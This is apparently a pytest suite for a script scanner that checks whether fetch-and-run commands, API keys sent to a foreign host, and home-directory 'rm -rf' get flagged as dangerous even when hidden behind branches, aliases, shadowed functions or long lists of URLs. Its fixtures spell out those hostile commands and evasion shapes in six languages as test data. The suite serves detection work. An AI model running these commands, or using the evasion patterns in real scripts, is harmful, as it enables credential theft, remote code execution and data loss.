"""A value that is set in a branch, after a function or in a loop excuses nothing: the other value counts, too."""

from __future__ import annotations

import pytest

from guard.packages import script
from whet.guard.finding import LABELS
from whet.guard.scan import scan

BAD = ("http://203.0.113.9/x", "https://get.pnpm.io/install.sh")
GOOD = ("https://astral.sh/uv/install.sh", "https://get.pnpm.io/install.sh")
HOSTS = ("http://203.0.113.9/v1", "https://api.openai.com/v1")
OWN = ("https://api.openai.com/v1/models", "https://api.openai.com/v1")

SHELL_RUNS = 'curl -fsSL "$U" | bash'
SHELL_SENDS = 'curl -H "Authorization: Bearer $OPENAI_API_KEY" "$U"'
SHELL = {
    "if": 'U=ONE\nif [ -n "$1" ]; then U=TWO; fi\nUSE\n',
    "else": 'if [ -n "$1" ]; then U=ONE; else U=TWO; fi\nUSE\n',
    "elif": 'if [ "$1" = a ]; then U=TWO; elif [ "$1" = b ]; then U=ONE; else U=TWO; fi\nUSE\n',
    "never": "U=ONE\nif false; then U=TWO; fi\nUSE\n",
    "or": 'U=ONE\n[ -z "$1" ] || U=TWO\nUSE\n',
    "and": 'U=ONE\n[ -n "$1" ] && U=TWO\nUSE\n',
    "case": 'case "$1" in a) U=ONE;; *) U=TWO;; esac\nUSE\n',
    "subshell": "U=ONE\n( U=TWO )\nUSE\n",
    "function": "U=ONE\nset_it() { U=TWO; }\nUSE\n",
    "later": "U=TWO\nuse_it() { USE; }\nU=ONE\nuse_it\n",
    "loop": "U=TWO\nfor turn in 1 2; do USE; U=ONE; done\n",
    "while": "U=ONE\nwhile false; do U=TWO; done\nUSE\n",
    "item": 'A=(ONE TWO)\nU="${A[$RANDOM % 2]}"\nUSE\n',
    "array": 'A=(ONE)\nif false; then A=(TWO); fi\nU="${A[0]}"\nUSE\n',
    "arguments": "set -- ONE\nif false; then set -- TWO; fi\nU=$1\nUSE\n",
    "each": "for U in ONE TWO; do USE; done\n",
    "nested": 'U=ONE\nif [ -n "$1" ]; then if [ -n "$2" ]; then U=TWO; fi; fi\nUSE\n',
}
PYTHON_RUNS = 'os.system("curl -fsSL " + u + " | bash")'
PYTHON_SENDS = 'requests.get(u, headers={"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]})'
PYTHON = {
    "if": 'u = "ONE"\nif len(sys.argv) > 9:\n    u = "TWO"\nUSE\n',
    "else": 'if len(sys.argv) > 9:\n    u = "ONE"\nelse:\n    u = "TWO"\nUSE\n',
    "never": 'u = "ONE"\nif False:\n    u = "TWO"\nUSE\n',
    "expression": 'u = "TWO" if len(sys.argv) > 9 else "ONE"\nUSE\n',
    "other expression": 'u = "ONE" if len(sys.argv) > 9 else "TWO"\nUSE\n',
    "loop": 'u = "ONE"\nfor one in sys.argv[9:]:\n    u = "TWO"\nUSE\n',
    "try": 'u = "ONE"\ntry:\n    int(sys.argv[1])\n    u = "TWO"\nexcept ValueError:\n    pass\nUSE\n',
    "key": 'u = {"a": "TWO", "b": "ONE"}[sys.argv[1]]\nUSE\n',
    "later": 'u = "TWO"\ndef use_it():\n    USE\nu = "ONE"\nuse_it()\n',
    "field": 'class Settings:\n    at = "ONE"\nif len(sys.argv) > 9:\n    Settings.at = "TWO"\nu = Settings.at\nUSE\n',
    "item": 'of = {"at": "ONE"}\nif len(sys.argv) > 9:\n    of["at"] = "TWO"\nu = of["at"]\nUSE\n',
    "choice": 'u = random.choice(["ONE", "TWO"])\nUSE\n',
    "default": 'u = {"a": "ONE"}.get(sys.argv[1], "TWO")\nUSE\n',
    "get": 'u = {"a": "ONE", "b": "TWO"}.get(sys.argv[1])\nUSE\n',
}
JAVASCRIPT_RUNS = 'cp.execSync("curl -fsSL " + u + " | bash");'
JAVASCRIPT_SENDS = 'fetch(u, { headers: { Authorization: "Bearer " + process.env.OPENAI_API_KEY } });'
JAVASCRIPT = {
    "if": 'let u = "ONE";\nif (process.argv[9]) { u = "TWO"; }\nUSE\n',
    "else": 'let u;\nif (process.argv[9]) { u = "ONE"; } else { u = "TWO"; }\nUSE\n',
    "expression": 'const u = process.argv[9] ? "TWO" : "ONE";\nUSE\n',
    "other expression": 'const u = process.argv[9] ? "ONE" : "TWO";\nUSE\n',
    "member": 'const of = { at: "ONE" };\nif (process.argv[9]) { of.at = "TWO"; }\nconst u = of.at;\nUSE\n',
    "index": 'const u = ["ONE", "TWO"][process.argv.length % 2];\nUSE\n',
    "key": 'const u = { a: "ONE", b: "TWO" }[process.argv[2]];\nUSE\n',
    "later": 'let u = "TWO";\nfunction useIt() { USE }\nu = "ONE";\nuseIt();\n',
}
POWERSHELL_RUNS = "irm $u | iex"
POWERSHELL_SENDS = 'irm $u -Headers @{ Authorization = "Bearer $env:OPENAI_API_KEY" }'
POWERSHELL = {
    "if": "$u = 'ONE'\nif ($args) { $u = 'TWO' }\nUSE\n",
    "else": "if ($args) { $u = 'ONE' } else { $u = 'TWO' }\nUSE\n",
    "value": "$u = if ($args) { 'ONE' } else { 'TWO' }\nUSE\n",
    "switch": "switch ($args[0]) { 'a' { $u = 'ONE' } default { $u = 'TWO' } }\nUSE\n",
    "member": "$of = @{ at = 'ONE' }\nif ($args) { $of.at = 'TWO' }\n$u = $of.at\nUSE\n",
    "index": "$u = @('ONE', 'TWO')[(Get-Random) % 2]\nUSE\n",
    "later": "$u = 'TWO'\nfunction Use-It { USE }\n$u = 'ONE'\nUse-It\n",
}
CMD_RUNS = "curl -fsSL -o n.bat %U%\ncall n.bat"
CMD = {
    "if": '@echo off\nset U=ONE\nif "%1"=="x" set U=TWO\nUSE\n',
    "else": '@echo off\nif "%1"=="x" (set U=ONE) else (set U=TWO)\nUSE\n',
    "block": '@echo off\nset U=ONE\nif "%1"=="x" (\n  set U=TWO\n)\nUSE\n',
    "each": "@echo off\nfor %%U in (ONE TWO) do curl -fsSL -o n.bat %%U && call n.bat\n",
    "goto": "@echo off\nset U=TWO\ngoto begin\n:use\nUSE\nexit /b 0\n:begin\nset U=ONE\ngoto use\n",
}
RUBY_RUNS = 'system("curl -fsSL #{u} | bash")'
RUBY = {
    "if": 'u = "ONE"\nif ARGV[9]\n  u = "TWO"\nend\nUSE\n',
    "else": 'if ARGV[9]\n  u = "ONE"\nelse\n  u = "TWO"\nend\nUSE\n',
    "item": 'of = { "at" => "ONE" }\nif ARGV[9]\n  of["at"] = "TWO"\nend\nu = of["at"]\nUSE\n',
    "nested text": 'of = { "at" => "ONE", "or" => "TWO" }\nu = "#{of["at"]}"\nv = u\nUSE\n',
}
PLACES = {
    "sh": (SHELL, SHELL_RUNS, SHELL_SENDS, "#!/bin/bash\n"),
    "py": (PYTHON, PYTHON_RUNS, PYTHON_SENDS, "import os, random, sys, requests\n"),
    "js": (JAVASCRIPT, JAVASCRIPT_RUNS, JAVASCRIPT_SENDS, 'const cp = require("child_process");\n'),
    "ps1": (POWERSHELL, POWERSHELL_RUNS, POWERSHELL_SENDS, ""),
    "bat": (CMD, CMD_RUNS, "", ""),
    "rb": (RUBY, RUBY_RUNS, "", ""),
}
EXACT = {("sh", "subshell"), ("py", "later"), ("rb", "nested text")}
"""Where one value is known to be used, and it is the first."""
ROWS = [
    pytest.param(
        ending, head + shape.replace("USE", use), bad, good, (ending, name) in EXACT, id=f"{ending}-{name}-{way}"
    )
    for ending, (shapes, runs, sends, head) in PLACES.items()
    for name, shape in shapes.items()
    for way, use, bad, good in (("runs", runs, BAD, GOOD), ("sends", sends, HOSTS, OWN))
    if use
]


def weighs(ending: str, text: str, values: tuple[str, str]) -> int:
    text = text.replace("ONE", values[0]).replace("TWO", values[1])
    return LABELS.index(scan(script(f"scripts/start.{ending}", text)).verdict)


@pytest.mark.parametrize(("ending", "text", "bad", "good", "exact"), ROWS)
def test_every_value_counts(ending: str, text: str, bad: tuple[str, str], good: tuple[str, str], exact: bool) -> None:
    assert LABELS[weighs(ending, text, bad)] == "dangerous"
    assert (LABELS[weighs(ending, text, bad[::-1])] == "dangerous") is not exact
    assert LABELS[weighs(ending, text, good)] != "dangerous"


OWN_PLACE, STRANGE_PLACE = "https://api.openai.com/v1/x", "https://collector.example/in"
SH_SENDS = 'curl -s -H "Authorization: Bearer $OPENAI_API_KEY" PLACE\n'
PY_SENDS = 'requests.get("PLACE", headers={"Authorization": os.environ["OPENAI_API_KEY"]})\n'
JS_SENDS = 'fetch("PLACE", { headers: { Authorization: process.env.OPENAI_API_KEY } });\n'
PS_SENDS = "irm PLACE -Headers @{ Authorization = $env:OPENAI_API_KEY }\n"
RB_SENDS = 'Net::HTTP.get(URI("PLACE"), { "Authorization" => ENV["OPENAI_API_KEY"] })\n'
HIDES = {
    "sh": {
        "never": "if false; then OPENAI_API_KEY=none; fi\n" + SH_SENDS,
        "after": SH_SENDS + "OPENAI_API_KEY=none\n",
        "function": "reset() { OPENAI_API_KEY=none; }\n" + SH_SENDS,
        "subshell": "(OPENAI_API_KEY=none)\n" + SH_SENDS,
        "own function": "if false; then curl() { :; }; fi\n" + SH_SENDS,
        "alias": "shopt -s expand_aliases\nalias c=curl\n" + SH_SENDS.replace("curl", "c"),
    },
    "py": {
        "import error": "try:\n    import requests\nexcept ImportError:\n    requests = None\n" + PY_SENDS,
        "other module": "if len(sys.argv) > 9:\n    import json as requests\n" + PY_SENDS,
        "assigned": "import json\nif len(sys.argv) > 9:\n    requests = json\n" + PY_SENDS,
        "loop": "for requests in []:\n    pass\n" + PY_SENDS,
        "with": "if False:\n    with open(__file__) as requests:\n        pass\n" + PY_SENDS,
        "global": "def never():\n    global requests\n    requests = None\ndef go():\n    " + PY_SENDS + "go()\n",
        "key": 'k = os.environ["OPENAI_API_KEY"]\nif False:\n    k = "none"\n'
        + PY_SENDS.replace('os.environ["OPENAI_API_KEY"]', "k"),
        "function": 'def send(k):\n    requests.get("PLACE", headers={"Authorization": k})\n'
        'if False:\n    def send(k):\n        pass\nsend(os.environ["OPENAI_API_KEY"])\n',
        "two modules": "import json\nreal, requests = requests, json\nif len(sys.argv) > 1:\n    requests = real\n"
        "if len(sys.argv) > 9:\n    requests = json\n" + PY_SENDS,
    },
    "js": {
        "variable": "if (false) { var fetch = () => {}; }\n" + JS_SENDS,
        "function": "if (false) { function fetch() {} }\n" + JS_SENDS,
        "assigned": "if (false) { fetch = () => {}; }\n" + JS_SENDS,
        "block": "let send = fetch;\n{ let send = () => {}; }\n" + JS_SENDS.replace("fetch(", "send("),
        "other function": "let send = fetch;\nif (false) { send = () => {}; }\n" + JS_SENDS.replace("fetch(", "send("),
        "member": "const of = { send: fetch };\nif (false) { of.send = () => {}; }\n"
        + JS_SENDS.replace("fetch(", "of.send("),
    },
    "ps1": {
        "function": "if ($false) { function irm { } }\n" + PS_SENDS,
        "command": "function Invoke-RestMethod { }\nRemove-Item function:Invoke-RestMethod\n" + PS_SENDS,
        "never": "if ($false) { $env:OPENAI_API_KEY = 'none' }\n" + PS_SENDS,
    },
    "bat": {
        "never": '@echo off\nif 1==2 set OPENAI_API_KEY=none\ncurl -H "Authorization: %OPENAI_API_KEY%" PLACE\n',
    },
    "rb": {"never": 'require "net/http"\nif false\n  ENV["OPENAI_API_KEY"] = "none"\nend\n' + RB_SENDS},
}


@pytest.mark.parametrize(
    ("ending", "text"),
    [
        pytest.param(ending, text, id=f"{ending}-{name}")
        for ending, rows in HIDES.items()
        for name, text in rows.items()
    ],
)
def test_a_branch_hides_no_secret_and_no_function(ending: str, text: str) -> None:
    head = PLACES[ending][3]
    assert scan(script(f"scripts/start.{ending}", head + text.replace("PLACE", STRANGE_PLACE))).verdict == "dangerous"
    assert scan(script(f"scripts/start.{ending}", head + text.replace("PLACE", OWN_PLACE))).verdict != "dangerous"


REMOVES = {
    "sh": ("cd ~\nrm -rf ./*\n", "cd ~\ncd build\nrm -rf ./*\n"),
    "sh branch": ("cd ~\nif false; then cd build; fi\nrm -rf ./*\n", "cd build\nif false; then cd ~; fi\nrm -rf ./*\n"),
    "sh subshell": ("cd ~\n(cd build && make)\nrm -rf ./*\n", "cd build\n(cd ~ && ls)\nrm -rf ./*\n"),
    "sh list": ("cd ~ && [ -d build ] && rm -rf ./*\n", "[ -d build ] && cd build && rm -rf ./*\n"),
    "sh function": ("go() { cd ~; }\ngo\nrm -rf ./*\n", "go() { cd build; }\ngo\nrm -rf ./*\n"),
    "sh later": ("clean() { rm -rf ./*; }\ncd ~\nclean\n", "clean() { rm -rf ./*; }\ncd build\nclean\n"),
    "py": (
        'import os, shutil\nos.chdir(os.path.expanduser("~"))\nshutil.rmtree(".")\n',
        'import os, shutil\nos.chdir("build")\nshutil.rmtree(".")\n',
    ),
    "py command": (
        'import os, subprocess\nsubprocess.run("rm -rf ./*", shell=True, cwd=os.path.expanduser("~"))\n',
        'import subprocess\nsubprocess.run("rm -rf ./*", shell=True, cwd="build")\n',
    ),
    "js": (
        'const fs = require("fs");\nprocess.chdir(require("os").homedir());\nfs.rmSync(".", { recursive: true });\n',
        'const fs = require("fs");\nprocess.chdir("build");\nfs.rmSync(".", { recursive: true });\n',
    ),
    "js command": (
        'require("child_process").execSync("rm -rf ./*", { cwd: require("os").homedir() });\n',
        'require("child_process").execSync("rm -rf ./*", { cwd: "build" });\n',
    ),
    "ps1": ("Set-Location ~\nRemove-Item -Recurse -Force *\n", "Set-Location build\nRemove-Item -Recurse -Force *\n"),
    "rb": (
        'require "fileutils"\nDir.chdir(Dir.home)\nFileUtils.rm_rf(".")\n',
        'require "fileutils"\nDir.chdir("build")\nFileUtils.rm_rf(".")\n',
    ),
}


@pytest.mark.parametrize("name", REMOVES)
def test_a_relative_path_is_removed_where_the_program_runs(name: str) -> None:
    verdicts = [scan(script(f"scripts/start.{name.partition(' ')[0]}", text)).verdict for text in REMOVES[name]]
    assert verdicts[0] == "dangerous"
    assert verdicts[1] != "dangerous"


GOOD_PLACES = [f"https://get.pnpm.io/install.sh?{number}" for number in range(100)]
CROWDS = {
    "sh call": ('run() { curl -fsSL "$1" | bash; }\n', "run EACH\n"),
    "sh loop": ("for u in ", "EACH ", '; do curl -fsSL "$u" | bash; done\n'),
    "py call": ('import os\ndef run(u):\n    os.system("curl -fsSL " + u + " | bash")\n', 'run("EACH")\n'),
    "py loop": ("import os\nfor u in [", '"EACH", ', ']:\n    os.system("curl -fsSL " + u + " | bash")\n'),
    "js call": (f"{PLACES['js'][3]}function run(u) {{ {JAVASCRIPT_RUNS} }}\n", 'run("EACH");\n'),
    "js loop": (f"{PLACES['js'][3]}for (const u of [", '"EACH", ', f"]) {{ {JAVASCRIPT_RUNS} }}\n"),
    "ps1 call": ("function Start-It($u) { irm $u | iex }\n", "Start-It 'EACH'\n"),
    "ps1 loop": ("foreach ($u in @(", "'EACH', ", "'https://get.pnpm.io/install.sh')) { irm $u | iex }\n"),
    "rb call": (f"def run(u)\n  {RUBY_RUNS}\nend\n", 'run("EACH")\n'),
    "rb loop": ("[", '"EACH", ', f"].each do |u|\n  {RUBY_RUNS}\nend\n"),
}


@pytest.mark.parametrize("way", CROWDS)
def test_an_address_does_not_hide_among_many(way: str) -> None:
    begin, each, *end = CROWDS[way]
    for places, dangerous in ((GOOD_PLACES, False), ([*GOOD_PLACES, BAD[0]], True)):
        text = begin + "".join(each.replace("EACH", place) for place in places) + "".join(end)
        assert (scan(script(f"scripts/start.{way.partition(' ')[0]}", text)).verdict == "dangerous") is dangerous


def test_a_secret_does_not_hide_among_many_calls() -> None:
    calls = [f'send("report {number}")\n' for number in range(100)]
    for last, verdict in (('"done"', "safe"), ('os.environ["OPENAI_API_KEY"]', "dangerous")):
        function = f'def send(x):\n    requests.post("{STRANGE_PLACE}", data=x)\n'
        text = f"import os, requests\n{function}{''.join(calls)}send({last})\n"
        assert scan(script("scripts/start.py", text)).verdict == verdict
